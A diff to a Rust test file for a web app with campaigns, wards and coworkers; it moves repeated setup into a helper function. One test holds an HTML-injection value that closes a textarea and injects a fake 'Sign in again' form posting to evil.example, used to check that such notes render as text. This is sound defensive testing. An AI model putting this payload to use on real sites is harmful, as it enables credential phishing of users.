@@ -15,6 +15,16 @@ stories!(
     text_in_a_text_area_never_becomes_markup
 );
 
+/// A lead's campaign with an ICU on a day shift, and Ana in it: the lead, the campaign,
+/// the ICU and Ana.
+async fn ward_with_ana(app: &TestApp) -> (rankfile_tests::Browser, i64, i64, i64) {
+    let (lead, campaign_id) = app.lead_of("lead@example.org", "Mercy").await;
+    let icu = area(&lead, campaign_id, "ICU").await;
+    let day = shift(&lead, campaign_id, "Day").await;
+    let ana = coworker(&lead, campaign_id, "Ana", icu, day).await;
+    (lead, campaign_id, icu, ana)
+}
+
 /// The text of the element with `id` (its first 300 characters of markup after the id).
 fn beside<'a>(html: &'a str, id: &str) -> &'a str {
     let after = html
@@ -35,10 +45,7 @@ fn tag_of<'a>(html: &'a str, id: &str) -> &'a str {
 }
 
 async fn a_refused_one_on_one_comes_back_as_typed_with_every_mistake(app: TestApp) {
-    let (lead, campaign_id) = app.lead_of("lead@example.org", "Mercy").await;
-    let icu = area(&lead, campaign_id, "ICU").await;
-    let day = shift(&lead, campaign_id, "Day").await;
-    let ana = coworker(&lead, campaign_id, "Ana", icu, day).await;
+    let (lead, campaign_id, icu, ana) = ward_with_ana(&app).await;
     let org = app
         .organizer_in(&lead, campaign_id, "org@example.org", &[icu])
         .await;
@@ -264,10 +271,7 @@ async fn a_refused_sign_in_never_sends_the_password_back(app: TestApp) {
 /// A text area's content is text the page shows, never markup: notes that close the
 /// text area and open a form of their own stay notes (stored, or typed and refused).
 async fn text_in_a_text_area_never_becomes_markup(app: TestApp) {
-    let (lead, campaign_id) = app.lead_of("lead@example.org", "Mercy").await;
-    let icu = area(&lead, campaign_id, "ICU").await;
-    let day = shift(&lead, campaign_id, "Day").await;
-    let ana = coworker(&lead, campaign_id, "Ana", icu, day).await;
+    let (lead, campaign_id, icu, ana) = ward_with_ana(&app).await;
     let sneaky = r#"Nights.</textarea><form id="injected" action="https://evil.example/"><button>Sign in again</button></form><textarea>"#;
     lead.call_fn_ok(with_form(
         calls::update_coworker(campaign_id, ana, "Ana"),
